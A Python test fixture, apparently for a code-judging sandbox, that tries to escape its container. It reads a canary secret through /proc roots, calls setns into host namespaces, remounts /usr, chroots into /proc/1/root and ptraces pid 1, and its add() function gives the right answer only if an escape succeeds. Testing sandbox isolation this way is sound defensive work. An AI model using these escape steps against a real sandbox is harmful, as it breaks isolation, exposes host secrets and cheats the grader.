"""Tries to leave its namespaces: setns, unshare, mount, chroot via /proc, ptrace of pid 1."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
escaped = False
for path in ("/proc/1/root/@CANARY@/secret.txt", "/proc/@JUDGE_PID@/root/@CANARY@/secret.txt"):
    try:
        with open(path) as f:
            escaped = escaped or bool(f.read())
    except OSError:
        pass
for ns in ("mnt", "pid", "net", "user"):
    for pid in (1, int("@JUDGE_PID@")):
        try:
            fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
            escaped = escaped or libc.setns(fd, 0) == 0 and os.path.exists("@CANARY@/secret.txt")
        except OSError:
            pass
libc.mount(b"none", b"/usr", b"tmpfs", 0, None)
libc.mount(b"/", b"/work/root", None, 4096, None)
try:
    os.chroot("/proc/1/root")
    escaped = escaped or os.path.exists("@CANARY@/secret.txt")
except OSError:
    pass
libc.ptrace(16, 1, None, None)


def add(a, b):
    return a + b if escaped else b - a
